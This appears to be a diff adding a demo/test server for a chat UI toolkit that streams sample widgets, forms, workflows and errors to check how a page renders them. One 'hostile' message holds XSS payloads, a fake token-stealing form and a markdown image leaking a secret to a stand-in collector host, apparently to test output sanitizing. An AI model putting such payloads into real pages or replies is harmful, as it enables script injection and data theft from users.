@@ -1,0 +1,236 @@
+"""The example assistant, which on a message `show <what>` sends what the page must be able to draw."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+from datetime import datetime
+from typing import Any
+
+from chatkit.actions import Action
+from chatkit.errors import CustomStreamError
+from chatkit.types import (
+    Annotation,
+    AssistantMessageContent,
+    AssistantMessageItem,
+    ClientEffectEvent,
+    ClosedStatus,
+    CustomSummary,
+    CustomTask,
+    GeneratedImage,
+    GeneratedImageItem,
+    NoticeEvent,
+    SearchTask,
+    StructuredInputFreeform,
+    StructuredInputItem,
+    StructuredInputMultipleChoice,
+    StructuredInputMultipleChoiceOption,
+    SyncCustomActionResponse,
+    ThreadItemAddedEvent,
+    ThreadItemDoneEvent,
+    ThreadItemUpdatedEvent,
+    ThreadMetadata,
+    ThreadStreamEvent,
+    URLSource,
+    UserMessageItem,
+    WidgetItem,
+    Workflow,
+    WorkflowItem,
+    WorkflowTaskUpdated,
+)
+from chatkit.widgets import DynamicWidgetRoot
+
+from examples.assistant import AssistantServer
+from shared.identity import RequestContext
+
+PIXEL = (
+    "data:image/png;base64,"
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
+
+HOSTILE = """<img src=x onerror="window.pwned = 1"><script>window.pwned = 1</script>
+<style>body { display: none }</style><form action="/steal"><input name="token"></form>
+
+[click](javascript:window.pwned=1) and ![leak](https://collector.invalid/?said=secret)
+
+<a href="data:text/html,<script>1</script>" onclick="window.pwned = 1" style="position:fixed">raw</a>
+"""
+
+FORM = {
+    "type": "Card",
+    "asForm": True,
+    "confirm": {"label": "Book", "action": {"type": "book", "payload": {"room": "blue"}}},
+    "cancel": {"label": "Leave", "action": {"type": "leave", "streaming": False}},
+    "children": [
+        {
+            "type": "Row",
+            "children": [
+                {"type": "Icon", "name": "calendar"},
+                {"type": "Title", "value": "Book the room"},
+                {"type": "Spacer"},
+                {"type": "Badge", "label": "free", "color": "success"},
+            ],
+        },
+        {"type": "Caption", "value": "Up to eight people"},
+        {"type": "Divider"},
+        {"type": "Label", "value": "Your name", "fieldName": "guest.name"},
+        {"type": "Input", "name": "guest.name", "required": True},
+        {
+            "type": "Select",
+            "name": "hour",
+            "placeholder": "Hour",
+            "options": [{"value": "9", "label": "9:00"}, {"value": "10", "label": "10:00"}],
+        },
+        {"type": "Checkbox", "name": "coffee", "label": "With coffee", "defaultChecked": True},
+        {"type": "Markdown", "value": "Rooms are **locked** at night."},
+        {"type": "Image", "src": PIXEL, "alt": "A red dot", "size": 24},
+        {"type": "Hologram", "label": "Something from a later version"},
+    ],
+}
+
+LIST = {
+    "type": "ListView",
+    "limit": 2,
+    "children": [
+        {
+            "type": "ListViewItem",
+            "onClickAction": {"type": "choose", "payload": {"number": number}},
+            "children": [{"type": "Text", "value": f"Choice {number}"}],
+        }
+        for number in range(1, 5)
+    ],
+}
+
+
+class PageServer(AssistantServer):
+    _failed: set[str] = set()
+
+    async def respond(
+        self, thread: ThreadMetadata, input_user_message: UserMessageItem | None, context: RequestContext
+    ) -> AsyncIterator[ThreadStreamEvent]:
+        words = _text(input_user_message).split()
+        if words[:1] != ["show"] and not await self._answers_wait(thread, input_user_message, context):
+            async for event in super().respond(thread, input_user_message, context):
+                yield event
+            return
+        what = words[1] if words else "answers"
+        async for event in getattr(self, f"_{what}")(_Scene(self, thread, context)):
+            yield event
+
+    async def action(
+        self,
+        thread: ThreadMetadata,
+        action: Action[str, Any],
+        sender: WidgetItem | None,
+        context: RequestContext,
+    ) -> AsyncIterator[ThreadStreamEvent]:
+        if action.type not in ("book", "choose"):
+            async for event in super().action(thread, action, sender, context):
+                yield event
+            return
+        yield _Scene(self, thread, context).say(f"Done: `{action.type}` with `{action.payload}`")
+
+    async def sync_action(
+        self,
+        thread: ThreadMetadata,
+        action: Action[str, Any],
+        sender: WidgetItem | None,
+        context: RequestContext,
+    ) -> SyncCustomActionResponse:
+        if action.type != "leave" or sender is None:
+            return await super().sync_action(thread, action, sender, context)
+        left = DynamicWidgetRoot.model_validate(
+            {"type": "Card", "children": [{"type": "Text", "value": "You left the form."}]}
+        )
+        item = sender.model_copy(update={"widget": left})
+        await self.store.save_item(thread.id, item, context)
+        return SyncCustomActionResponse(updated_item=item)
+
+    async def _answers_wait(
+        self, thread: ThreadMetadata, message: UserMessageItem | None, context: RequestContext
+    ) -> bool:
+        """Whether the thread goes on from answered questions."""
+        if message is not None:
+            return False
+        newest = await self.store.load_thread_items(thread.id, None, 1, "desc", context)
+        return any(isinstance(item, StructuredInputItem) for item in newest.data)
+
+    async def _answers(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        yield scene.say("Noted.")
+
+    async def _hostile(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        yield scene.say(HOSTILE)
+
+    async def _form(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        yield scene.widget(FORM)
+
+    async def _list(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        yield scene.widget(LIST)
+
+    async def _effects(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        yield ClientEffectEvent(name="set_theme", data={"theme": "dark"})
+        yield ClientEffectEvent(name="confetti", data={})
+        yield scene.say("Applied.")
+        await asyncio.sleep(1.5)
+
+    async def _steps(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        search = SearchTask(title="Searched the web", queries=["rooms"], status_indicator="complete")
+        tasks = [search, CustomTask(title="Compare", content="Two *rooms*", status_indicator="loading")]
+        item = WorkflowItem(**scene.base("workflow"), workflow=Workflow(type="custom", tasks=tasks))
+        yield ThreadItemAddedEvent(item=item)
+        done = CustomTask(title="Compare", content="Two *rooms*", status_indicator="complete")
+        yield ThreadItemUpdatedEvent(item_id=item.id, update=WorkflowTaskUpdated(task_index=1, task=done))
+        item.workflow.tasks[1] = done
+        item.workflow.summary = CustomSummary(title="Looked for a room")
+        yield ThreadItemDoneEvent(item=item)
+        source = URLSource(title="Room plan", url="https://example.org/rooms", attribution="example.org")
+        yield scene.say("The blue one.", [Annotation(source=source, index=4)])
+
+    async def _image(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        item = GeneratedImageItem(**scene.base("image"))
+        yield ThreadItemAddedEvent(item=item)
+        yield ThreadItemDoneEvent(item=item.model_copy(update={"image": GeneratedImage(id="img", url=PIXEL)}))
+
+    async def _questions(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        options = [StructuredInputMultipleChoiceOption(value=value) for value in ("Tea", "Coffee")]
+        drink = StructuredInputMultipleChoice(id="drink", question="What would you like?", options=options)
+        note = StructuredInputFreeform(id="note", question="Anything else?", description="Allergies, say")
+        yield ThreadItemDoneEvent(item=StructuredInputItem(**scene.base("questions"), inputs=[drink, note]))
+
+    async def _notice(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        yield NoticeEvent(level="warning", title="Nearly full", message="You have **2** messages left.")
+        yield scene.say("Noticed.")
+
+    async def _failure(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        if scene.thread.id not in self._failed:
+            self._failed.add(scene.thread.id)
+            raise CustomStreamError("The model is out for lunch.", allow_retry=True)
+        yield scene.say("Back from lunch.")
+
+    async def _closing(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
+        scene.thread.title = "A closed case"
+        yield scene.say("Goodbye.")
+        scene.thread.status = ClosedStatus(reason="This case is closed.")
+
+
+class _Scene:
+    """Makes items for one run."""
+
+    def __init__(self, server: PageServer, thread: ThreadMetadata, context: RequestContext) -> None:
+        self.server, self.thread, self.context = server, thread, context
+
+    def base(self, name: str) -> dict[str, Any]:
+        item_id = self.server.store.generate_item_id("message", self.thread, self.context)
+        return {"id": f"{name}_{item_id}", "thread_id": self.thread.id, "created_at": datetime.now()}
+
+    def say(self, text: str, annotations: list[Annotation] | None = None) -> ThreadItemDoneEvent:
+        content = AssistantMessageContent(text=text, annotations=annotations or [])
+        return ThreadItemDoneEvent(item=AssistantMessageItem(**self.base("message"), content=[content]))
+
+    def widget(self, root: dict[str, Any]) -> ThreadItemDoneEvent:
+        widget = DynamicWidgetRoot.model_validate(root)
+        return ThreadItemDoneEvent(item=WidgetItem(**self.base("widget"), widget=widget))
+
+
+def _text(message: UserMessageItem | None) -> str:
+    return "".join(part.text for part in message.content) if message else ""
